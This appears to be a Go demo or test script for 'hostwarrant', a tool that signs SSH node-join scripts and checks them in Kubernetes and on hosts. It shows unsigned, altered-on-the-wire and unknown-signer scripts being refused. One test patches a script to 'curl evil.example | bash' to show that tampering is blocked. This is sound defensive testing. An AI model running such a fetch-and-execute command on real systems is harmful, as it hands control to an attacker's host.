@@ -1,0 +1,153 @@
+//go:build linux
+
+package main
+
+import (
+	"context"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"time"
+
+	"github.com/hostwarrant/hostwarrant/internal/envelope"
+)
+
+// steps are the story after the keys are made. They build on one another.
+func (s *story) steps() []step {
+	return []step{
+		{title: "An unsigned profile is refused where it is written", want: "Unsigned", fails: true, try: s.kubectl("apply", "-f", "unsigned.yaml")},
+		{title: "So is a template: what is signed must be what runs", want: "TemplateFound", fails: true, try: s.kubectl("apply", "-f", "template.yaml")},
+		{title: "Its author signs it, and asks offline what the cluster will say", want: "Verified", try: s.signAndVerify},
+		{title: "Signed, it is admitted", want: "serverside-applied", try: s.kubectl("apply", "--server-side", "-f", "signed.yaml")},
+		{title: "A host must verify; whom it trusts is filled in from the policy", want: "host-a", try: s.kubectl("apply", "--server-side", "-f", "hosts.yaml")},
+		{title: "The relay carries join to host-a, whose sshd and shim verify it again and run it", want: "joined as node-a, run by root", try: s.join},
+		{title: "The same script, altered by a byte on the wire, is refused by the host", want: "exit 2", fails: true, try: s.alteredOnTheWire},
+		{title: "A host that does not know the signer refuses it, whatever the cluster says", want: "shim exit 2", fails: true, try: s.unknownSigner},
+		{title: "An object that is being deleted is still in use, and still guarded", want: "BytesChanged", fails: true, try: s.patchUnderDeletion},
+	}
+}
+
+func (s *story) kubectl(args ...string) func(context.Context) (answer, bool, error) {
+	return func(ctx context.Context) (answer, bool, error) { return s.command(ctx, "kubectl", args...) }
+}
+
+func (s *story) hostwarrant(args ...string) func(context.Context) (answer, bool, error) {
+	return func(ctx context.Context) (answer, bool, error) { return s.command(ctx, "hostwarrant", args...) }
+}
+
+func (s *story) signAndVerify(ctx context.Context) (answer, bool, error) {
+	signed, refused, err := s.command(ctx, "hostwarrant", "sign", "unsigned.yaml", "-o", "signed.yaml", "--key", "keys/signer")
+	if err != nil || refused {
+		return signed, refused, err
+	}
+	verified, refused, err := s.command(ctx, "hostwarrant", "verify", "signed.yaml", "--policy", "keys/trust-policy.yaml", "--root", "keys/root.pub", "--cluster", clusterID)
+	verified.tried = signed.tried + " && " + verified.tried
+	return verified, refused, err
+}
+
+// join runs the phase through a HostRun and reads what it wrote on the host.
+func (s *story) join(ctx context.Context) (answer, bool, error) {
+	a, refused, err := s.run(ctx, "join-a", "host-a", "node-a")
+	if err != nil || refused {
+		return a, refused, err
+	}
+	marker, err := s.hostA.ReadFile("/var/lib/demo/joined")
+	if err != nil {
+		return a, false, err
+	}
+	a.said += "; /var/lib/demo/joined on host-a: " + strings.TrimSpace(string(marker))
+	return a, false, nil
+}
+
+// unknownSigner runs the phase on host-b, which trusts somebody else.
+func (s *story) unknownSigner(ctx context.Context) (answer, bool, error) {
+	return s.run(ctx, "join-b", "host-b", "node-b")
+}
+
+// run creates a HostRun and waits for its end.
+func (s *story) run(ctx context.Context, name, host, node string) (answer, bool, error) {
+	object := fmt.Sprintf(`{apiVersion: hostwarrant.dev/v1alpha1, kind: HostRun, metadata: {name: %s, namespace: %s},
+  spec: {hostRef: {name: %s}, profileRef: {name: %s}, phase: join, nodeName: %s}}
+`, name, namespace, host, profile, node)
+	if err := os.WriteFile(filepath.Join(s.dir, name+".yaml"), []byte(object), 0o600); err != nil {
+		return answer{}, false, err
+	}
+	a, refused, err := s.command(ctx, "kubectl", "apply", "--server-side", "-f", name+".yaml")
+	if err != nil || refused {
+		return a, refused, err
+	}
+	const jsonpath = `{range .status.conditions[?(@.type=="Succeeded")]}{.status} {.reason}{end} (shim exit {.status.shimExitCode}{range .status.scriptExitCode}, script exit {@}{end})`
+	limit, cancel := context.WithTimeout(ctx, 60*time.Second)
+	defer cancel()
+	for {
+		got, _, err := s.command(limit, "kubectl", "-n", namespace, "get", "hostrun", name, "-o", "jsonpath="+jsonpath)
+		if err != nil {
+			return a, false, fmt.Errorf("waiting for HostRun %s: %w; last: %s", name, err, got.said)
+		}
+		if final := strings.HasPrefix(got.said, "True") || strings.HasPrefix(got.said, "False"); final {
+			a.said = "HostRun/" + name + ": Succeeded=" + got.said
+			return a, strings.HasPrefix(got.said, "False"), nil
+		}
+		select {
+		case <-limit.Done():
+			return a, false, fmt.Errorf("waiting for HostRun %s: %w; last: %s", name, limit.Err(), got.said)
+		case <-time.After(100 * time.Millisecond):
+		}
+	}
+}
+
+// alteredOnTheWire plays a relay that was taken over: it has the login key and the signature, and
+// changes one byte of the script.
+func (s *story) alteredOnTheWire(ctx context.Context) (answer, bool, error) {
+	script, signature, err := s.signedPhase(ctx, "join")
+	if err != nil {
+		return answer{}, false, err
+	}
+	altered := strings.Replace(script, "joined as", "joined As", 1)
+	params, err := envelope.EncodeParams(map[string]string{"KPSSH_NODE_NAME": "node-a"})
+	if err != nil {
+		return answer{}, false, err
+	}
+	message, err := envelope.Envelope{Phase: "join", Params: params, Sig: []byte(signature), Script: []byte(altered)}.Encode()
+	if err != nil {
+		return answer{}, false, err
+	}
+	code, stderr, err := s.login.send(ctx, s.hostA, message)
+	if err != nil {
+		return answer{}, false, err
+	}
+	return answer{
+		tried: "ssh kpssh@host-a <envelope-with-an-altered-script",
+		said:  fmt.Sprintf("exit %d: %s", code, plain(stderr)),
+	}, code != 0, nil
+}
+
+// signedPhase reads a script and its signature as the cluster stores them.
+func (s *story) signedPhase(ctx context.Context, phase string) (script, signature string, err error) {
+	field := func(name string) (string, error) {
+		r, err := s.cluster.Kubectl(ctx, nil, "get", "sshjoinprofile", profile, "-o", "jsonpath={.spec."+name+"."+phase+"}")
+		if err == nil && r.Code != 0 {
+			err = fmt.Errorf("kubectl: %s", r.Stderr)
+		}
+		return r.Stdout, err
+	}
+	if script, err = field("scripts"); err != nil {
+		return "", "", err
+	}
+	signature, err = field("signatures")
+	return script, signature, err
+}
+
+// patchUnderDeletion holds the profile with a finalizer, deletes it, and patches a script.
+func (s *story) patchUnderDeletion(ctx context.Context) (answer, bool, error) {
+	for _, args := range [][]string{
+		{"patch", "sshjoinprofile", profile, "--type=merge", "-p", `{"metadata":{"finalizers":["example.com/in-use"]}}`},
+		{"delete", "sshjoinprofile", profile, "--wait=false"},
+	} {
+		if got, refused, err := s.command(ctx, "kubectl", args...); err != nil || refused {
+			return got, refused, fmt.Errorf("preparing: %v %s", err, got.said)
+		}
+	}
+	return s.command(ctx, "kubectl", "patch", "sshjoinprofile", profile, "--type=merge", "-p", `{"spec":{"scripts":{"leave":"curl evil.example | bash"}}}`)
+}
